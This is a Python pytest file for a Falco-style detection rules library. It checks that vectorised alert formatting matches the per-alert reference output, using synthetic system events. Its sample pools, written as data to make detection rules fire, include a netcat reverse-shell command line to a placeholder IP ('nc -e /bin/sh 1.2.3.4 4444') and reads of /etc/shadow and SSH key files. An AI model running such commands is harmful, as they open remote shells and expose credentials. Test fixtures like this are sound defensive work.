"""RuleSet.evaluate formats column-wise; the per-alert formatter (RuleSet.alerts) is the reference.

Oracle: for many rules and events, ``ruleset.evaluate(events)`` must equal
``alerts_frame(ruleset.alerts(events))`` exactly — every output byte, every output-field value,
every column, dtype and order — for frames and for lists of event dicts.
"""

from __future__ import annotations

import datetime as dt

import numpy as np
import pandas as pd
import pytest

from falco_lab.events.load_diagnostics import ATTRS_KEY
from falco_lab.rules import RuleSet, alerts_frame, load_rules, load_rules_text
from falco_lab.rules.output.columns import Column, format_clock_iso
from falco_lab.rules.output.format import (
    compile_output,
    format_time,
    json_value,
    json_values,
    render_value,
    render_values,
)
from tests.conftest import shared_file

UPSTREAM = ("falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml")

# Values that make upstream rules fire, mixed with ordinary ones and with odd values:
# missing (None / NaN), non-ASCII and undecodable text, numbers as text, empty strings.
POOLS: dict[str, list[object]] = {
    "evt.type": ["execve", "openat", "open", "connect", "ptrace", "setuid", "unlinkat", "renameat2", "mmap"],
    "evt.dir": ["<"],
    "evt.res": ["SUCCESS", "ENOENT", None],
    "evt.rawres": [0, 0, -2, 3],
    "evt.arg.flags": ["O_RDONLY", "O_WRONLY|O_CREAT|O_TRUNC", "O_RDWR", None],
    "evt.arg.request": ["PTRACE_ATTACH", "PTRACE_TRACEME", "PTRACE_PEEKDATA"],
    "evt.is_open_read": [True, False],
    "evt.is_open_write": [True, False],
    "proc.name": ["bash", "sh", "nginx", "python3", "cat", "nc", "café", "日本語", "sshd", "", None],
    "proc.pname": ["containerd-shim", "bash", "runc", "sshd", None, "ünï"],
    "proc.exe": ["/bin/bash", "/usr/bin/cat", "/tmp/x", "/dev/shm/a", None],
    "proc.exepath": ["/bin/bash", "/tmp/x", "/usr/bin/nc"],
    "proc.cmdline": ["bash -i", "cat /etc/shadow", "nc -e /bin/sh 1.2.3.4 4444", "naïve \u00e9t\u00e9", None],
    "proc.pcmdline": ["containerd-shim", "bash", None],
    "proc.args": ["-i", "", "/etc/shadow", None],
    "proc.tty": [0, 34816],
    "proc.vpid": [1, 7, 42],
    "proc.pid": [100, 2_000_000, 4_294_967_295],
    "proc.aname[2]": ["containerd-shim", "sshd", None],
    "proc.aname[3]": ["systemd", None],
    "proc.is_exe_upper_layer": [True, False],
    "proc.is_exe_from_memfd": [False, True],
    "proc.exe_writable": [False, True],
    "proc.cwd": ["/", "/tmp/", "/root/"],
    "user.name": ["root", "www-data", None, "ユーザー"],
    "user.uid": [0, 33, 1000],
    "user.loginuid": [-1, 1000],
    "fd.name": [
        "/etc/shadow",
        "/etc/passwd",
        "/root/.ssh/authorized_keys",
        "/tmp/x",
        "10.0.0.5:443->1.2.3.4:80",
    ],
    "fd.directory": ["/etc", "/root/.ssh", "/tmp", "/bin"],
    "fd.filename": ["shadow", "passwd", "authorized_keys", "x"],
    "fd.typechar": ["f", "4", "u"],
    "fd.type": ["file", "ipv4", "unix"],
    "fd.num": [3, 4, -1],
    "fd.sip": ["1.2.3.4", "10.0.0.5", None],
    "fd.sport": [4444, 80, 443],
    "fd.l4proto": ["tcp", "udp", None],
    "container.id": ["host", "3ad7b26ded6d", None],
    "container.name": ["web", None, "nöde"],
    "container.image.repository": ["docker.io/library/nginx", None],
    "container.image.tag": ["1.25", "latest", None],
    "container.privileged": [True, False],
    "k8s.ns.name": ["default", "prod", None],
    "k8s.pod.name": ["web-1", "api-7", None],
}


def synthetic_frame(n: int, seed: int) -> pd.DataFrame:
    """``n`` events drawn from :data:`POOLS` (object columns keep None / mixed values as given)."""
    rng = np.random.default_rng(seed)
    columns: dict[str, object] = {}
    for name, pool in POOLS.items():
        values = np.empty(len(pool), dtype=object)
        values[:] = pool
        columns[name] = values[rng.integers(0, len(pool), size=n)]
    frame = pd.DataFrame(columns)
    frame["evt.time"] = 1_750_000_000_000_000_000 + rng.integers(0, 10**12, size=n)
    return frame


def assert_same(ruleset: RuleSet, events: object, **options: object) -> pd.DataFrame:
    expected = alerts_frame(ruleset.alerts(events, **options))  # type: ignore[arg-type]
    actual = ruleset.evaluate(events, **options)  # type: ignore[arg-type]
    assert list(actual.columns) == list(expected.columns)
    assert actual["output"].tolist() == expected["output"].tolist()  # byte for byte
    pd.testing.assert_frame_equal(actual, expected, check_exact=True)
    assert actual.attrs[ATTRS_KEY] == expected.attrs[ATTRS_KEY]
    return actual


@pytest.fixture(scope="module")
def upstream() -> RuleSet:
    ruleset = load_rules(*(shared_file(f"upstream/{name}") for name in UPSTREAM))
    assert ruleset.ok, [str(e) for e in ruleset.errors][:3]
    return ruleset


def test_upstream_rulesets_over_a_frame_give_the_reference_alerts(upstream: RuleSet) -> None:
    frame = synthetic_frame(4000, seed=11)
    result = assert_same(upstream, frame, hostname="node-1")
    assert len(result) > 500 and result["rule"].nunique() >= 8  # many rules fired: a real oracle


def test_upstream_rulesets_over_event_dicts_give_the_reference_alerts(upstream: RuleSet) -> None:
    events = [
        {k: v for k, v in e.items() if v is not None}
        for e in synthetic_frame(1500, seed=3).to_dict("records")
    ]
    result = assert_same(upstream, events, hostname="node-1")
    assert len(result) > 100


def test_first_match_min_priority_and_no_suggested_fields_agree_with_the_reference(upstream: RuleSet) -> None:
    frame = synthetic_frame(1500, seed=5)
    result = assert_same(
        upstream, frame, hostname="h", rule_matching="first", min_priority="warning", suggested_fields=False
    )
    assert len(result) > 50 and not result["output"].str.contains("container_id=").any()


ODD_RULES = """\
- rule: Odd outputs
  desc: every kind of output token
  condition: evt.type = execve
  output: >
    t=%evt.time s=%evt.time.s iso=%evt.time.iso8601 low=%tolower(proc.name) up=%toupper(proc.name)
    b=%basename(proc.exe) n=%len(proc.cmdline) w=[%8proc.name] cut=[%3proc.cmdline] anc=%proc.aname
    a2=%proc.aname[2] pid=%proc.pid uid=%user.uid tty=%proc.tty flags=%evt.arg.flags miss=%fd.name
    rate=%evt.rawres priv=%container.privileged done
  priority: NOTICE
  tags: [z_tag, a_tag]
- rule: Second
  desc: fires on the same events, other fields
  condition: evt.type = execve and proc.name exists
  output: second %proc.name %container.name
  priority: critical
"""


def odd_events() -> list[dict[str, object]]:
    base = 1_700_000_000_123_456_789
    times: list[object] = [
        base,
        str(base + 1),
        pd.Timestamp(base + 2, unit="ns", tz="UTC"),
        dt.datetime(2026, 12, 4, 3, 4, 5, 678901, tzinfo=dt.UTC),
        "2026-12-04T03:04:05.123456789Z",
        float(base),
    ]
    names: list[object] = ["BaSh", "Ünïcødé", "", None, "a" * 20, "日本"]
    values: list[object] = [7, 7.0, "7", True, None, 2**63 + 5]
    out = []
    for i in range(36):
        out.append(
            {
                "evt.type": "execve",
                "evt.time": times[i % len(times)],
                "proc.name": names[i % len(names)],
                "proc.exe": ["/usr/bin/bash", "/x/ÿ", None][i % 3],
                "proc.cmdline": ["bash -c 'echo hi'", "", "ü" * 5, None][i % 4],
                "proc.aname": [["sh", "containerd-shim", "systemd"], [], None, ["ä"]][i % 4],
                "proc.aname[2]": ["containerd-shim", None][i % 2],
                "proc.pid": values[i % len(values)],
                "user.uid": values[(i + 1) % len(values)],
                "proc.tty": [0, 34816, None][i % 3],
                "evt.arg.flags": ["O_RDONLY", 3, None][i % 3],
                "evt.rawres": [-2, 0.5, float("nan"), None][i % 4],
                "container.privileged": [True, False, None, "true"][i % 4],
                "container.name": ["web", b"bytes\xff", None][i % 3],
            }
        )
    return out


def test_odd_values_transformers_widths_and_time_forms_agree_with_the_reference() -> None:
    ruleset = load_rules_text(ODD_RULES, name="odd.yaml")
    assert ruleset.ok, [str(e) for e in ruleset.errors]
    events = odd_events()
    result = assert_same(ruleset, events, hostname="ħost")
    assert len(result) == len(events) + sum(e["proc.name"] is not None for e in events)
    assert result["output"].str.contains("<NA>").all()  # missing fields print <NA>
    assert_same(ruleset, pd.DataFrame(events), hostname="ħost")


def test_no_alert_gives_the_empty_canonical_frame() -> None:
    ruleset = load_rules_text(ODD_RULES, name="odd.yaml")
    assert_same(ruleset, [{"evt.type": "open"}])
    assert_same(ruleset, pd.DataFrame({"evt.type": ["open"]}))
    assert_same(ruleset, pd.DataFrame())


def test_events_without_time_get_the_current_time() -> None:
    ruleset = load_rules_text(ODD_RULES, name="odd.yaml")
    before = pd.Timestamp.now(tz="UTC")
    result = ruleset.evaluate([{"evt.type": "execve", "proc.name": "bash"}], hostname="h")
    assert len(result) == 2 and result["time"].between(before, pd.Timestamp.now(tz="UTC")).all()


def test_clock_and_iso_formatting_matches_format_time_including_edge_times() -> None:
    ns = np.array([0, 1, 999_999_999, 1_700_000_000_123_456_789, 2**63 - 1], dtype=np.int64)
    clock, iso = format_clock_iso(ns)
    assert list(zip(iso, clock, strict=True)) == [format_time(int(v)) for v in ns]
    negative = np.array([-1, 5], dtype=np.int64)  # outside numpy's fast range: per value
    clock, iso = format_clock_iso(negative)
    assert list(zip(iso, clock, strict=True)) == [format_time(int(v)) for v in negative]


def test_a_column_keeps_values_of_different_types_apart() -> None:
    column = Column([1, True, 1.0, "1", 1, None, [1], [1]])
    assert column.values() == [1, True, 1.0, "1", 1, None, [1], [1]]
    assert [type(v) for v in column.values()] == [int, bool, float, str, int, type(None), list, list]
    assert column.map(repr) == ["1", "True", "1.0", "'1'", "1", "None", "[1]", "[1]"]


def test_column_renderers_agree_with_the_per_value_renderers_for_every_json_kind() -> None:
    fmt = compile_output(
        "%proc.pid %proc.name %container.privileged %evt.rawres %tolower(proc.name) %proc.aname"
    )
    samples: list[list[object]] = [
        ["a", None, "ü", "", "123", " 7 "],
        [1, 2, 3, -5, 2**64],
        [True, False],
        [1, True, 1.0, None, "x", b"\xff", [1, "a"], float("nan")],
    ]
    for token in fmt.tokens:
        for values in samples:
            texts = render_values(token, values)
            if texts is not None:
                assert texts == [render_value(token, v) for v in values], (token.key, values)
            fields = json_values(token, values)
            if fields is not None:
                assert fields == [json_value(token, v) for v in values], (token.key, values)
    plain = fmt.tokens[0]
    assert render_values(plain, ["a", None]) == ["a", "<NA>"] and render_values(plain, [1, True]) is None
